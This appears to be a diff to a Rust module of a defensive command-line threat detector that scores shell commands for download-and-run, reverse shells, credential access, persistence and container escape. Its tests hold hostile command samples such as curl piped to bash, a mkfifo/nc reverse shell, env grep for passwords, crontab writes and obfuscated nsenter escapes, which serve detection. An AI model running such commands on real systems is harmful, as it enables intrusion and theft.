@@ -1,90 +1,65 @@
 //! Judges command lines: each simple command by the program that it runs and what that is given, and all of them by what
 //! flows from one to the next.
 
+use std::ops::Range;
+
 use super::category::{Category, Found};
+use super::flow::{Flow, name_of};
+use super::lexer::{Lexer, Syntax};
 use super::marks::Marks;
-use super::names::{DECODES, Kinds};
+use super::names::Kinds;
 use super::programs::{self, Program, unversioned};
-use super::roles::{self, Access};
+use super::roles::{self, Access, Role};
 use super::traces::{self, Trace};
-use super::words::{Join, Lexer, Redirect, Simple, Syntax};
+use super::words::{Join, Redirect, Simple, beginning};
 use super::wrappers::{ScriptAt, is_among};
 
 /// Lines within lines are followed so far.
 const MAX_DEPTH: usize = 6;
 
 /// Programs that run one another are followed so far.
-const MAX_WRAPPERS: usize = 12;
+const MAX_WRAPPERS: usize = 8;
+
+/// Longer than any honest command, in bytes. What is behind is not looked at; that there is so much is a finding.
+const MAX_JUDGED: usize = 32 << 10;
 
 /// So much is looked at of what stands within the line, in bytes, as a multiple of the line.
-const NESTED: usize = 3;
+const NESTED: usize = 2;
 
-/// So many programs of the table are looked at with all their rows.
-const MAX_PROGRAMS: usize = 4096;
+/// So many programs that no table has are judged by their arguments.
+const MAX_UNKNOWN: usize = 256;
 
 /// Programs that are given such paths on ordinary days and do not write to them.
 const NO_WRITERS: &str = "logrotate systemctl service run-parts crond supercronic sshd nginx ansible-playbook";
 
-/// Words of shells behind which a command stands.
-const KEYWORDS: &str = "if then else elif do while until for in { } ! time case esac fi done function select coproc [[ select";
-
-/// Folders that anyone may write to.
-const SHARED_FOLDERS: [&str; 6] = ["/tmp/", "/dev/shm/", "/var/tmp/", "./", "/run/shm/", "/dev/mqueue/"];
-
 /// Judges a command whose arguments are known each for itself.
 #[must_use]
 pub fn of_argv<'a>(argv: impl Iterator<Item = &'a str>) -> Found {
-    let simple = Simple::of_words(argv);
+    let mut left = MAX_JUDGED;
+    let mut is_whole = true;
+    let kept = argv.map_while(|word| {
+        let kept = beginning(word, left);
+        is_whole &= kept.len() == word.len();
+        // An empty word costs something too.
+        left = left.saturating_sub(kept.len() + 1);
+        (left > 0 || !kept.is_empty()).then_some(kept)
+    });
+    let simple = Simple::of_words(kept);
     let mut judge = Judge::new(simple.text().len());
     judge.simple(&simple, &mut Flow::default(), 0);
-    judge.end(simple.text())
+    judge.end(simple.text(), is_whole)
 }
 
 /// Judges a command line whose arguments were joined with blanks.
 #[must_use]
 pub fn of_line(line: &str) -> Found {
-    let mut judge = Judge::new(line.len());
-    judge.line(line, Syntax::Joined, 0);
+    let kept = beginning(line, MAX_JUDGED);
+    let mut judge = Judge::new(kept.len());
+    judge.line(kept, Syntax::Joined, 0);
     if judge.in_code {
-        judge.mark(line);
+        judge.mark(kept);
     }
-    judge.end(line)
-}
-
-/// What flows between the simple commands of one line.
-#[derive(Debug, Default)]
-struct Flow {
-    /// Something in this pipeline decodes.
-    decodes: bool,
-    /// Something in this pipeline fetches.
-    fetches: bool,
-    /// Something in this pipeline opens a connection.
-    connects: bool,
-    /// Something in this pipeline is a shell.
-    shells: bool,
-    /// Something in this pipeline shows the environment.
-    shows_environment: bool,
-    /// A substitution's output is run.
-    is_run: bool,
-    /// Something was fetched or unpacked before on this line.
-    fetched: bool,
-    /// With what arguments.
-    fetched_by: String,
-    /// Something was put away under a password before on this line.
-    locks: bool,
-}
-
-impl Flow {
-    /// What is left of it for the next pipeline.
-    fn next(self) -> Self {
-        Self { fetched: self.fetched, fetched_by: self.fetched_by, locks: self.locks, ..Self::default() }
-    }
-
-    /// Whether a program or script is one that was fetched.
-    fn has_fetched(&self, path: &str) -> bool {
-        let name = name_of(path);
-        self.fetched && (is_shared(path) || (name.len() > 1 && self.fetched_by.contains(name)))
-    }
+    judge.end(kept, kept.len() == line.len())
 }
 
 struct Judge {
@@ -93,17 +68,29 @@ struct Judge {
     in_code: bool,
     /// Whether what is looked at is code.
     is_code: bool,
+    /// The words of the simple command that were judged as a line of their own.
+    nested: Range<usize>,
     /// What code names that is grave where it writes to it.
     named_in_code: Option<(Category, &'static str)>,
     left: usize,
-    programs: usize,
+    unknown: usize,
     pool: Vec<Simple>,
 }
 
 impl Judge {
     fn new(length: usize) -> Self {
         let left = length.saturating_mul(NESTED) + 1024;
-        Self { found: Found::default(), marks: Marks::default(), in_code: false, is_code: false, named_in_code: None, left, programs: 0, pool: Vec::new() }
+        Self {
+            found: Found::default(),
+            marks: Marks::default(),
+            in_code: false,
+            is_code: false,
+            nested: 0..0,
+            named_in_code: None,
+            left,
+            unknown: 0,
+            pool: Vec::new(),
+        }
     }
 
     fn add(&mut self, category: Category, technique: &'static str) {
@@ -144,33 +131,31 @@ impl Judge {
 
     fn simple(&mut self, simple: &Simple, flow: &mut Flow, depth: usize) {
         let had = self.found.has(Category::Download);
+        self.nested = 0..0;
         let program = if simple.continues { None } else { self.programs_of(simple, flow, depth) };
-        let (name, place) = program.unwrap_or_default();
-        let name = name_of(simple.word(place).filter(|_| !name.is_empty()).unwrap_or_default());
-        self.traces(simple, unversioned_known(name), place);
+        let place = program.unwrap_or_default();
+        let name = program.and_then(|place| simple.word(place)).map_or("", name_of);
+        // Shorter than anything that is searched for.
+        if simple.text().len() > 3 {
+            self.traces(simple, unversioned_known(name), place);
+        }
         flow.fetches |= !had && self.found.has(Category::Download);
         flow.fetched |= flow.fetches;
     }
 
-    /// The programs that a simple command runs, one after the other; the last, with its place.
-    fn programs_of(&mut self, simple: &Simple, flow: &mut Flow, depth: usize) -> Option<(String, usize)> {
-        let mut waiting = vec![0];
+    /// The programs that a simple command runs, one after the other; the place of the last.
+    fn programs_of(&mut self, simple: &Simple, flow: &mut Flow, depth: usize) -> Option<usize> {
+        let mut next = Some(0);
+        let mut waiting = Vec::new();
         let mut last = None;
         let mut steps = 0;
-        while let Some(from) = waiting.pop() {
+        while let Some(from) = next.take().or_else(|| waiting.pop()) {
             steps += 1;
             let Some(place) = command_word(simple, from) else { continue };
-            let word = simple.word(place).unwrap_or_default();
-            let name = known_name(word);
-            last.get_or_insert((name.to_owned(), place));
-            if steps > 1 {
-                last = Some((name.to_owned(), place));
-            }
-            self.program(simple, place, name, flow, depth);
-            let Some(program) = programs::find(name) else {
-                if is_loader(name) && simple.word(place + 1).is_some() {
-                    waiting.push(place + 1);
-                }
+            let name = known_name(simple.word(place).unwrap_or_default());
+            last = Some(place);
+            let Some(program) = self.program(simple, place, name, flow, depth) else {
+                next = (is_loader(name) && simple.word(place + 1).is_some()).then_some(place + 1);
                 continue;
             };
             if steps < MAX_WRAPPERS {
@@ -191,7 +176,10 @@ impl Judge {
             waiting.extend(runs.programs(simple, from));
             match runs.script(simple, from) {
                 Some(ScriptAt::Word(place)) => self.script(simple, place, depth, waiting),
-                Some(ScriptAt::From(place)) => self.line(simple.text_from(place), Syntax::Shell, depth + 1),
+                Some(ScriptAt::From(place)) => {
+                    self.line(simple.text_from(place), Syntax::Shell, depth + 1);
+                    self.nested = place..simple.len();
+                }
                 None => {}
             }
         }
@@ -202,6 +190,7 @@ impl Judge {
         let Some(script) = simple.word(place) else { return };
         if script.contains([' ', '\t', '\n', ';', '|', '&', '$', '`', '(', '<', '>', '\'', '"', '\\']) {
             self.line(script, Syntax::Shell, depth + 1);
+            self.nested = place..place + 1;
         } else {
             waiting.push(place);
         }
@@ -238,28 +227,33 @@ impl Judge {
         }
     }
 
-    fn program(&mut self, simple: &Simple, place: usize, name: &str, flow: &mut Flow, depth: usize) {
+    /// Looks a program up and judges what it is given; none where no table has it.
+    fn program(
+        &mut self,
+        simple: &Simple,
+        place: usize,
+        name: &str,
+        flow: &mut Flow,
+        depth: usize,
+    ) -> Option<&'static Program> {
         let from = place + 1;
         if name.ends_with("miner") {
             self.add(Category::Miner, "T1496");
         }
         let Some(program) = programs::find(name) else {
-            return self.unknown(simple, place, flow);
+            self.unknown(simple, place, flow);
+            return None;
         };
-        self.programs += 1;
-        if self.programs > MAX_PROGRAMS {
-            return;
-        }
         for (condition, category, technique) in program.rows() {
-            if condition.holds(simple, from) {
+            let is_download = category == Category::Download;
+            if (is_download || !self.found.is_settled(category)) && condition.holds(simple, from) {
                 self.add(category, technique);
-                if category == Category::Download {
-                    flow.fetches = true;
-                    flow.fetched_by = beginning(simple.text_from(from)).to_owned();
+                if is_download {
+                    flow.fetch(simple.text_from(from));
                 }
             }
         }
-        self.flows(simple, from, (name, program.kinds), flow);
+        flow.step(simple, from, (name, program.kinds), &mut self.found);
         if program.kinds.has(Kinds::INTERPRETER) {
             let given = simple.text_from(from);
             let has_code = given.len() > name.len() && given.contains(['(', '"', '\'', ';', '{', '`', '!', ' ']);
@@ -270,6 +264,7 @@ impl Judge {
                 self.line(given, Syntax::Code, depth + 1);
             }
         }
+        Some(program)
     }
 
     /// Looks for what code does.
@@ -287,8 +282,11 @@ impl Judge {
         if flow.has_fetched(word) && word.contains('/') {
             self.add(Category::DecodeAndRun, "T1105");
         }
-        if simple.len() > place + 1 && self.programs < MAX_PROGRAMS {
-            self.programs += 1;
+        let given = simple.beginning_from(place + 1);
+        let may_tell =
+            given.contains([':', '-']) && (given.contains(':') || given.contains("sh") || given.contains("-l"));
+        if may_tell && self.unknown < MAX_UNKNOWN {
+            self.unknown += 1;
             for (condition, category, technique) in programs::of_any() {
                 if condition.holds(simple, place + 1) {
                     self.add(category, technique);
@@ -297,67 +295,19 @@ impl Judge {
         }
     }
 
-    /// What comes into a program from those before it, and what it gives to the next.
-    fn flows(&mut self, simple: &Simple, from: usize, (name, kinds): (&str, Kinds), flow: &mut Flow) {
-        let given = simple.text_from(from);
-        let has = |texts: &[&str]| texts.iter().any(|text| given.contains(text));
-        let is_shell = kinds.has(Kinds::SHELL);
-        let is_runner = is_shell || kinds.has(Kinds::READER);
-        let reads = simple.before == Join::Pipe || simple.before == Join::Close;
-        if is_runner && reads && !gives_script(simple, from, is_shell) {
-            self.run(flow);
-        }
-        flow.is_run |= is_runner && simple.after == Join::Open;
-        flow.shells |= is_shell;
-        flow.connects |= kinds.has(Kinds::CONNECTOR) && (name != "openssl" || has(&["s_client"]));
-        if flow.connects && flow.shells && (simple.before == Join::Pipe || simple.after == Join::Pipe) {
-            self.add(Category::ReverseShell, "T1059.004");
-        }
-        let unlocks = (kinds.has(Kinds::DECODER) && simple.words_from(from).any(|word| DECODES.contains(&word)))
-            || kinds.has(Kinds::UNPACKER);
-        let expands = match name {
-            "rev" | "zcat" | "gunzip" => true,
-            "tr" => has(&["A-Za-z", "a-zA-Z", "A-MN-Z"]),
-            _ if kinds.has(Kinds::EXPANDER) => has(&["\\x", "\\1", "-dc", "-d "]),
-            _ => kinds.has(Kinds::INTERPRETER) && has(&["decode", "base64", "unhex", "fromhex", "pack("]),
-        };
-        flow.decodes |= unlocks || expands;
-        flow.fetched |= unlocks;
-        if simple.before == Join::Pipe && (name == "su" || (name == "sudo" && has(&["-S"]))) {
-            self.add(Category::CredentialAccess, "T1110.001");
-        }
-        flow.locks |= is_among("zip 7z 7za rar", name) && has(&["-p", "-P ", "--password"]);
-        if flow.locks && name == "rm" {
-            self.add(Category::Destruction, "T1486");
-        }
-        if flow.is_run && (flow.decodes || self.found.has(Category::Download)) {
-            self.run_found(flow);
-        }
-        flow.shows_environment |= kinds.has(Kinds::ENVIRONMENT);
-        let secrets = ["pass", "PASS", "secret", "SECRET", "token", "TOKEN", "KEY", "key", "cred", "AWS", "pwd"];
-        if flow.shows_environment && kinds.has(Kinds::FINDER) && has(&secrets) {
-            self.add(Category::CredentialAccess, "T1552.001");
-        }
-        if simple.targets().any(|(redirect, target)| redirect == Redirect::Here && is_shell && target.contains("$(")) {
-            self.add(Category::DecodeAndRun, "T1140");
-        }
-    }
-
-    fn run(&mut self, flow: &Flow) {
-        if flow.decodes || flow.fetches {
-            self.run_found(flow);
-        }
-    }
-
-    fn run_found(&mut self, flow: &Flow) {
-        self.add(Category::DecodeAndRun, if flow.decodes { "T1140" } else { "T1105" });
-    }
-
     /// What the texts in a command tell.
     fn traces(&mut self, simple: &Simple, name: &str, place: usize) {
         let in_substitution = simple.before == Join::Open;
+        let mut role = None;
         for (trace, at) in traces::of(simple.text()) {
-            let access = || roles::access(name, simple, place, at);
+            if trace.category().is_some_and(|category| self.found.is_settled(category)) && !self.is_code {
+                continue;
+            }
+            if simple.word_at(at).is_some_and(|word| self.nested.contains(&word)) {
+                continue;
+            }
+            let role = *role.get_or_insert_with(|| Role::of(name, simple, place));
+            let access = || role.access(simple, at);
             let found = match trace {
                 Trace::Mark(mark) => {
                     if mark == Marks::DEVICE {
@@ -379,15 +329,15 @@ impl Judge {
                 }
                 Trace::Used(category, technique) => (access() != Access::Names).then_some((category, technique)),
                 Trace::Shown(category, technique) => {
-                    let reads = roles::shows(name) || simple.redirect_at(at) == Some(Redirect::Read);
+                    let reads = role.shows || simple.redirect_at(at) == Some(Redirect::Read);
                     reads.then_some((category, technique))
                 }
                 Trace::ShownOpenly(category, technique) => {
-                    (roles::shows(name) && !in_substitution).then_some((category, technique))
+                    (role.shows && !in_substitution).then_some((category, technique))
                 }
                 Trace::Key(category, technique) => {
                     let is_used = access() != Access::Names && !roles::uses_keys(name);
-                    let reads = roles::shows(name) || access() == Access::Unknown;
+                    let reads = role.shows || access() == Access::Unknown;
                     (is_used && reads).then_some((category, technique))
                 }
                 Trace::Written(category, technique) => {
@@ -410,18 +360,20 @@ impl Judge {
     }
 
     /// What all of it comes to.
-    fn end(mut self, line: &str) -> Found {
+    fn end(mut self, line: &str, is_whole: bool) -> Found {
+        if !is_whole {
+            self.add(Category::CoveringTracks, "T1027");
+        }
         if self.marks.has(Marks::DEVICE) {
             // Where messages go says nothing.
             let plain = ["2>&1", "1>&2", ">&2", "&>/dev/null", "&> /dev/null"];
             let plain = plain.iter().fold(line.to_owned(), |line, harmless| line.replace(harmless, " "));
-            let is_led = ["0>&1", "<&", ">&", "0<", "| sh", "|sh", "| bash", "|bash", " -i "].iter().any(|sign| plain.contains(sign));
+            let is_led = ["0>&1", "<&", ">&", "0<", "| sh", "|sh", "| bash", "|bash", " -i "]
+                .iter()
+                .any(|sign| plain.contains(sign));
             let is_near = ["/dev/tcp/localhost/", "/dev/tcp/127."].iter().any(|near| line.contains(near));
-            let (category, technique) = if is_led && !is_near {
-                (Category::ReverseShell, "T1059.004")
-            } else {
-                (Category::Download, "T1105")
-            };
+            let (category, technique) =
+                if is_led && !is_near { (Category::ReverseShell, "T1059.004") } else { (Category::Download, "T1105") };
             self.add(category, technique);
         }
         if self.found.has(Category::InterpreterCode) && !self.in_code {
@@ -446,28 +398,13 @@ fn is_loader(name: &str) -> bool {
 /// Whether a word is an option behind which code stands.
 fn is_code_option(word: &str) -> bool {
     let Some(option) = word.strip_prefix('-') else { return word.contains(['(', ';']) };
-    option.starts_with(['e', 'c', 'r', 'E', 'p', 'n', 'l', 'M']) || option.ends_with(['e', 'c', 'r', 'E'])
+    option.starts_with(['e', 'c', 'r', 'E', 'p', 'n', 'l', 'M'])
+        || option.ends_with(['e', 'c', 'r', 'E'])
         || option.starts_with("-e")
-}
-
-/// Whether a shell or interpreter is given what it runs, so that it does not read it.
-fn gives_script(simple: &Simple, from: usize, is_shell: bool) -> bool {
-    let mut words = simple.words_from(from).take(16);
-    if is_shell {
-        return words.any(|word| {
-            (word.starts_with('-') && !word.starts_with("--") && word.contains('c'))
-                || (!word.starts_with(['-', '+']) && !word.starts_with("/dev/") && !simple.words_from(from).any(|word| word == "-s"))
-        });
-    }
-    words.any(|word| !word.starts_with('-') && !word.starts_with("/dev/"))
 }
 
 fn is_downloader(name: &str) -> bool {
     is_among("curl wget", name)
-}
-
-fn is_shared(word: &str) -> bool {
-    SHARED_FOLDERS.iter().any(|folder| word.starts_with(folder))
 }
 
 /// Whether the word at a place of a command is a log that was put away.
@@ -475,6 +412,33 @@ fn is_archive(simple: &Simple, at: usize) -> bool {
     let word = simple.word_at(at).and_then(|place| simple.word(place)).unwrap_or_default();
     let is_old = [".gz", ".old", ".1", ".xz", ".zip", ".bz2"].iter().any(|end| word.ends_with(end));
     is_old || ["-mtime", "+7", "*.gz", "*.log.*", "-mmin"].iter().any(|aged| simple.text().contains(aged))
+}
+
+/// Whether a word is one of a shell's own behind which a command stands.
+fn is_keyword(word: &str) -> bool {
+    matches!(
+        word,
+        "if" | "then"
+            | "else"
+            | "elif"
+            | "do"
+            | "while"
+            | "until"
+            | "for"
+            | "in"
+            | "{"
+            | "}"
+            | "!"
+            | "time"
+            | "case"
+            | "esac"
+            | "fi"
+            | "done"
+            | "function"
+            | "select"
+            | "coproc"
+            | "[["
+    )
 }
 
 fn is_assignment(word: &str) -> bool {
@@ -487,17 +451,9 @@ fn is_assignment(word: &str) -> bool {
 
 /// The place of the program's name, behind keywords and variables.
 fn command_word(simple: &Simple, from: usize) -> Option<usize> {
-    let is_before = |word: &str| is_assignment(word) || is_among(KEYWORDS, word) || word == "--" || word.is_empty();
+    let is_before = |word: &str| is_assignment(word) || is_keyword(word) || word == "--" || word.is_empty();
     let before = simple.words_from(from).take_while(|word| is_before(word)).count();
     (from + before < simple.len()).then_some(from + before)
-}
-
-/// The name of a program in its path.
-fn name_of(word: &str) -> &str {
-    // What a variable without a value, or a dot, hides.
-    let word = word.strip_prefix("${").and_then(|rest| rest.split_once('}')).map_or(word, |(_, name)| name);
-    let name = word.rsplit('/').next().unwrap_or_default();
-    if name.len() > 2 { name.trim_start_matches('.') } else { name }
 }
 
 /// The name that a program is known by; a pattern is what it matches.
@@ -516,23 +472,103 @@ fn known_name(word: &str) -> &str {
 fn matches(pattern: &[u8], name: &[u8]) -> bool {
     match (pattern.split_first(), name.split_first()) {
         (None, None) => true,
-        (Some((b'*', rest)), _) => matches(rest, name) || name.split_first().is_some_and(|(_, less)| matches(pattern, less)),
+        (Some((b'*', rest)), _) => {
+            matches(rest, name) || name.split_first().is_some_and(|(_, less)| matches(pattern, less))
+        }
         (Some((b'?', rest)), Some((_, less))) => matches(rest, less),
         (Some((one, rest)), Some((other, less))) => one == other && matches(rest, less),
         _ => false,
     }
 }
 
-/// So much of what a program was given is kept, in bytes.
-const KEPT: usize = 512;
-
-fn beginning(text: &str) -> &str {
-    let end = (0..=text.len().min(KEPT)).rev().find(|end| text.is_char_boundary(*end));
-    text.get(..end.unwrap_or_default()).unwrap_or_default()
-}
-
 /// The name without a version, where it is known by that.
 fn unversioned_known(name: &str) -> &str {
     let bare = unversioned(name);
     if bare != name && Kinds::of(bare) != Kinds::default() { bare } else { name }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn names(found: &Found) -> Vec<&'static str> {
+        found.categories().map(Category::name).collect()
+    }
+
+    fn of_shell(script: &str) -> Vec<&'static str> {
+        names(&of_argv(["sh", "-c", script].into_iter()))
+    }
+
+    #[test]
+    fn programs_are_found_wherever_a_shell_would_run_them() {
+        for script in [
+            "nsenter -t 1 sh",
+            "cd /x && nsenter -t 1 sh",
+            "env A=1 timeout 5 nsenter -t 1 sh",
+            "find / -exec nsenter -t 1 sh \\;",
+            "echo 1 | xargs nsenter -t",
+            "bash -c 'setsid nohup nsenter -t 1 sh'",
+            "busybox nsenter -t 1 sh",
+            "x=$(nsenter -t 1 id)",
+            "if true; then nsenter -t 1 sh; fi",
+            "n\"\"sen\\ter -t 1 sh",
+            "a=nsen;b=ter;$a$b -t 1",
+            "python3 -c 'import os; os.system(\"nsenter -t 1 sh\")'",
+            "eval 'nsenter -t 1 sh'",
+            "don't; nsenter -t 1 sh",
+        ] {
+            assert!(of_shell(script).contains(&"escape"), "{script}: {:?}", of_shell(script));
+        }
+        for script in ["echo nsenter", "ls /usr/bin/nsenter", "apk add nsenter", "grep nsenter x"] {
+            assert!(!of_shell(script).contains(&"escape"), "{script}");
+        }
+    }
+
+    #[test]
+    fn what_flows_from_one_program_to_the_next() {
+        for (script, category) in [
+            ("echo aWQ= | base64 -d | sh", "decode_and_run"),
+            ("curl -s x | bash -s y", "decode_and_run"),
+            ("(wget -O- x || curl x) | sh", "decode_and_run"),
+            ("sh -c \"$(curl -fsSL x)\"", "decode_and_run"),
+            ("bash <(curl x)", "decode_and_run"),
+            ("wget -O /opt/kit http://x/kit; chmod +x /opt/kit; /opt/kit", "decode_and_run"),
+            ("rm -f /t; mkfifo /t; cat /t | sh -i 2>&1 | nc x 1 > /t", "reverse_shell"),
+            ("env | grep -i pass", "credential_access"),
+            ("echo x >> /etc/crontab", "persistence"),
+            (": > /var/log/auth.log", "covering_tracks"),
+            ("python -c 'import socket,subprocess; s=socket.socket(); subprocess.call(1)'", "reverse_shell"),
+            ("python -c 'open(\"/etc/cron.d/x\",\"w\").write(\"y\")'", "persistence"),
+        ] {
+            assert!(of_shell(script).contains(&category), "{script}: {:?}", of_shell(script));
+        }
+    }
+
+    #[test]
+    fn what_is_done_each_day_is_not_grave() {
+        for script in [
+            "pg_dump -U app shop | gzip > /backup/shop.sql.gz",
+            "mysqldump -p$(cat /run/secrets/db) shop",
+            "find /var/log -name '*.gz' -mtime +7 -delete",
+            "until nc -z db 5432; do sleep 1; done",
+            "/usr/local/bin/job > /var/log/job.log 2>&1",
+            "logrotate -f /etc/logrotate.d/nginx",
+            "rm -rf /tmp/cache /var/cache/app/*",
+            "exec 3<>/dev/tcp/127.0.0.1/8080; echo -e 'GET / HTTP/1.1' >&3; cat <&3",
+            "kill -HUP 1",
+            "python manage.py migrate",
+            "chown -R app:app /data",
+        ] {
+            let found = of_argv(["sh", "-c", script].into_iter());
+            assert!(!found.is_grave() && found.grave_at_start().next().is_none(), "{script}: {:?}", names(&found));
+        }
+    }
+
+    #[test]
+    fn what_is_longer_than_any_honest_command_is_told() {
+        let long = "x ".repeat(MAX_JUDGED);
+        assert!(of_shell(&long).contains(&"covering_tracks"));
+        assert!(of_line(&long).has(Category::CoveringTracks));
+        assert!(of_shell(&format!("nsenter -t 1; {long}")).contains(&"escape"));
+    }
 }
